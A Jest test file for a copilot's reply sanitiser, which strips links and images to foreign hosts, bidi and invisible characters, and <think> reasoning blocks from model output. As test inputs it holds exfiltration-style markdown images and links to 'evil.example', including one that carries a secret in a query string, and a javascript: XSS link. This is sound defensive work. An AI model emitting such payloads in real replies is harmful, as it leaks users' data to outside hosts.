import { describe, expect, it } from '@jest/globals';
import fc from 'fast-check';
import { cleanReply, cleanWords, replyOf, withoutThoughts } from '#shared/domain/copilot/reply.ts';
import { CopilotRequest } from '#shared/schemas/copilot/copilot.ts';

const OWN = ['api.example.org'];
const NOTHING = { done: [], waiting: [], notDone: [], unknown: [] };

describe('the words of the model', () => {
  it.each([
    ['an image of another host', 'Hi ![x](https://evil.example/?q=secret)', 'Hi x'],
    ['a link to another host', '[Map](https://evil.example/a) here', 'Map here'],
    ['a link without its protocol', '[Map](//evil.example/a)', 'Map'],
    ['a link with another protocol', '[Map](javascript:alert(1))', 'Map)'],
    ['a name before the host', '[Map](https://api.example.org@evil.example/a)', 'Map'],
    [
      'a link in a reference',
      '[Map][1]\n[1]: https://evil.example/a',
      '[Map][1]\n[1]: (address of evil.example left out)',
    ],
    ['an image in HTML', '<img src="https://evil.example/a">', '<img src="(address of evil.example left out)">'],
    ['an image as a link', '[a ![x](//evil.example/1)](//evil.example/2)', '[a x] (//evil.example/2)'],
    ['a link in a label', '[a [b](//evil.example/1)', '[a b'],
    [
      'an address of the service with a title',
      '[R](<https://api.example.org/r> "T")',
      '[R](<https://api.example.org/r> "T")',
    ],
    ['a long protocol', `${'x'.repeat(40)}://evil.example/a`, `${'x'.repeat(9)}(address of evil.example left out)`],
    ['a link of the service', '[Roster](https://api.example.org/r/1)', '[Roster](https://api.example.org/r/1)'],
    ['an address of the service', 'See https://api.example.org/r/1', 'See https://api.example.org/r/1'],
    ['characters that turn the text', 'Pay \u202Eten\u202C', 'Pay ten'],
    ['nothing that is visible', '\u200B \u202E', ''],
  ])('are shown as a reader expects: %s', (_what, said, expected) => {
    expect(cleanReply(said, OWN)).toBe(expected);
  });

  it.each([
    ['between tags', '<think>Ada is a secret.</think>\nAda is here.', '\nAda is here.'],
    ['more than once, in other words', '<Thinking>secret</thinking>Hi. <thought>\nsecret</thought>Ada.', 'Hi. Ada.'],
    ['before an end without a beginning', 'Okay, a secret.\n</think>Ada is here.', 'Ada is here.'],
    ['in tags inside of tags', '<think>a <think>secret</think> secret</think>Ada.', 'Ada.'],
    ['behind a beginning without an end', 'Hi. <think>The secret', 'Hi. '],
    ['nothing', 'I think <Ada> is here.', 'I think <Ada> is here.'],
  ])('are without what it thinks: %s', (_what, said, expected) => {
    expect(withoutThoughts(said)).toBe(expected);
    const begun = said.startsWith('Okay') ? `<think>${said}` : said;
    for (let end = 0; end <= begun.length; end += 1)
      expect(cleanWords(begun.slice(0, end), OWN)).not.toContain('secret');
  });

  it('can always be sent back, whatever they are', () => {
    const odd = fc.oneof(
      fc.string({ unit: 'binary', maxLength: 200 }),
      fc.constantFrom('\ud800', 'x'.repeat(30_000), '\u0000'),
    );
    fc.assert(
      fc.property(fc.array(odd, { maxLength: 5 }), (parts) => {
        const said = cleanReply(replyOf(NOTHING, parts.join(' ')), OWN);
        const messages = [
          { role: 'assistant', content: said },
          { role: 'user', content: 'Go on' },
        ];
        expect(CopilotRequest.safeParse({ messages }).error).toBeUndefined();
      }),
    );
  });
});
